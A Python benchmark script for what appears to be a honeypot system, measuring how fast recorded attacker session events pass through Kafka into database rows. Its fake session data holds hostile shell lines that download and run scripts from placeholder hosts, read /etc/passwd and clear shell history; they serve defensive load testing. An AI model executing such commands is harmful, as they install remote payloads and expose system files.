#!/usr/bin/env python3
"""latency_bench: how long a session event takes to its rows, and what else a worker promises at load.

    latency_bench [--kafka SERVERS] [--rate N] [--seconds N]

Without --kafka (or DECNET_KAFKA_BOOTSTRAP_SERVERS_BENCH) on the embedded broker, the worker with --solo. Without --rate
first the full load of one worker is measured (events that lie ready, to the last commit), and half of it is produced.

Latency: from the wall clock just before the event is handed to the publisher's process (so with its linger of 20 ms) to the
moment when another connection sees the position behind it, asked every 5 ms: the rows are in the same transaction. Needs
DECNET_TEST_PG, DECNET_SOURCE_ROOT, DECNET_*_PROGRAM; `./run bench latency` sets them."""
import argparse
import json
import os
import re
import subprocess
import sys
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

ROOT = Path(os.environ["DECNET_SOURCE_ROOT"])
sys.path[:0] = [str(ROOT / "tests/chaos"), str(ROOT / "tests/kafka")]
for name in ("PRODUCE", "CONSUME"):
    os.environ.setdefault(f"DECNET_{name}_PROGRAM", str(Path(__file__).resolve().parent.parent / f"fakes/decnet-{name.lower()}"))
os.environ.setdefault("DECNET_TEST_KAFKA", "")
from kafka_support import SESSIONS, KafkaLab, address, session_event  # noqa: E402
from lab import Lab, Session, expect, wait_until  # noqa: E402

ATTACKERS, POLL_S, FULL_N = 2000, 0.005, 10000
BARS = {"p99_ms": 200, "memory_mib": 64, "drain_s": 5, "start_s": 1}
COMMANDS = ("uname -a", "cat /proc/cpuinfo", "whoami", "cd /tmp || cd /var/run; wget http://203.0.113.%d/bins.sh; sh bins.sh",
            "cat /etc/passwd", "crontab -l", "curl -O http://203.0.113.%d/x && chmod 777 x && ./x", "history -c")


def event(number):
    e = session_event(number, ATTACKERS)
    sid, ip, now = e["value"]["session_id"], e["key"], datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    e["value"]["ended_at"] = now
    e["value"]["commands"] = [{"id": f"{sid}#{i}", "command_text": c % (number % 250) if "%d" in c else c, "ts": now,
                               "user": "root", "src": ip} for i, c in enumerate(COMMANDS)]
    return json.dumps(e) + "\n"


class Bench:
    def __init__(self, kafka):
        self.kafka = kafka
        self.lab = KafkaLab("latency", kafka) if kafka else Lab("latency")
        if not kafka:
            self.lab.prefix = ""

    def fresh(self):
        self.lab.wipe()
        rows = ",".join(f"('{address(i)}', now(), now())" for i in range(ATTACKERS))
        self.lab.sql(f"INSERT INTO attackers (ip, first_seen, last_seen) VALUES {rows}")

    def worker(self, *argv):
        return self.lab.member(*argv, session_ms=6000) if self.kafka else self.lab.worker_spawn(*argv)

    def publisher(self):
        return subprocess.Popen([os.environ["DECNET_PRODUCE_PROGRAM"]], env=self.lab.env(), stdin=subprocess.PIPE, text=True)

    def full_load(self):
        """Events a second of one worker that has as many as it wants."""
        self.fresh()
        publisher = self.publisher()
        publisher.communicate("".join(event(i) for i in range(FULL_N)))
        said = self.worker("--once").end().err
        busy = float(re.search(r"busy ([\d.]+) s from the first record", said)[1])
        return FULL_N / busy

    def produce(self, rate, seconds):
        publisher, started, n = self.publisher(), time.monotonic(), 0
        while (now := time.monotonic() - started) < seconds:
            due = int(now * rate)
            publisher.stdin.write("".join(event(i) for i in range(n, due)))
            publisher.stdin.flush()
            n = due
            time.sleep(0.005)
        publisher.stdin.close()
        expect(publisher.wait(60) == 0, "the publisher failed")
        return n


class Watcher(threading.Thread):
    """Sees positions move: [(wall clock, partition, from, to)]."""

    def __init__(self, bench):
        super().__init__(daemon=True)
        self.session, self.seen, self.done = Session(bench.lab), [], threading.Event()
        self.sql = f"SELECT partition, next_offset FROM consumer_position WHERE topic = '{bench.lab.prefix}{SESSIONS}'"
        self.start()

    def run(self):
        at = {}
        while not self.done.is_set():
            rows, now = self.session.run(self.sql), time.time()
            for part, offset in (map(int, row.split("|")) for row in rows):
                if offset > at.get(part, 0):
                    self.seen.append((now, part, at.get(part, 0), offset))
                    at[part] = offset
            time.sleep(POLL_S)

    def count(self):
        return sum(end - start for _, _, start, end in self.seen)

    def stop(self):
        self.done.set()
        self.join()
        self.session.close()


def latencies(bench, watcher, skip_until):
    """ms of each event produced after @skip_until."""
    produced = {}
    for e in bench.lab.events(SESSIONS):
        at = datetime.strptime(e["payload"]["ended_at"], "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc).timestamp()
        produced[e["partition"], e["offset"]] = at
    return sorted(1000 * (now - produced[part, offset]) for now, part, start, end in watcher.seen
                  for offset in range(start, end) if produced[part, offset] >= skip_until)


def memory_mib(worker):
    status = Path(f"/proc/{worker.process.pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status)[1]) / 1024


def start_to_commit(bench):
    """Events lie ready, the group is empty, compiled rules are cached."""
    bench.fresh()
    bench.publisher().communicate("".join(event(i) for i in range(500)))
    watcher, started = Watcher(bench), time.time()
    worker = bench.worker()
    wait_until(lambda: watcher.seen, "a first commit")
    seconds = watcher.seen[0][0] - started
    watcher.stop()
    worker.terminate()
    return seconds


def drain(bench, rate):
    """SIGTERM in the middle of the load."""
    bench.fresh()
    feeder = threading.Thread(target=bench.produce, args=(rate, 5), daemon=True)
    worker, watcher = bench.worker(), Watcher(bench)
    feeder.start()
    time.sleep(4)
    before = watcher.count()
    started = time.monotonic()
    worker.terminate()
    seconds = time.monotonic() - started
    expect(before > 0, "the worker had committed nothing yet")
    feeder.join()
    watcher.stop()
    return seconds


def say(what, value, unit, bar):
    print(f"{what:<10}{value} {unit} (bar: {bar})", flush=True)


def main():
    parser = argparse.ArgumentParser(prog="latency_bench")
    parser.add_argument("--kafka", default=os.environ.get("DECNET_KAFKA_BOOTSTRAP_SERVERS_BENCH"))
    parser.add_argument("--rate", type=int)
    parser.add_argument("--seconds", type=int, default=20)
    options = parser.parse_args()
    bench = Bench(options.kafka)
    print(f"broker    {options.kafka or 'embedded (the bars are for Apache Kafka: --kafka)'}")
    if not options.rate:
        full = bench.full_load()
        options.rate = int(full / 2)
        print(f"full load {full:.0f} events/s of {len(COMMANDS)} commands by one worker; half of it is produced")
    bench.fresh()
    worker, watcher, started = bench.worker(), Watcher(bench), time.time()
    time.sleep(3)  # joined, rules loaded
    n = bench.produce(options.rate, options.seconds)
    wait_until(lambda: watcher.count() >= n, "all events committed")
    memory = memory_mib(worker)
    worker.terminate()
    watcher.stop()
    ms = latencies(bench, watcher, started + 4)
    p50, p95, p99 = (ms[int(len(ms) * q)] for q in (0.5, 0.95, 0.99))
    print(f"latency   of {len(ms)} events at {options.rate}/s, handed to the publisher to seen committed by another connection")
    say("latency", f"p50 {p50:.0f}, p95 {p95:.0f}, p99 {p99:.0f}, largest {ms[-1]:.0f}", "ms", f"p99 <= {BARS['p99_ms']}")
    say("memory", f"{memory:.1f}", "MiB resident at the most", f"<= {BARS['memory_mib']}")
    say("drain", f"{drain(bench, options.rate):.2f}", "s from SIGTERM in the middle of the load", f"<= {BARS['drain_s']}")
    say("start", f"{start_to_commit(bench):.2f}", "s to the first committed batch", f"<= {BARS['start_s']}")


main()
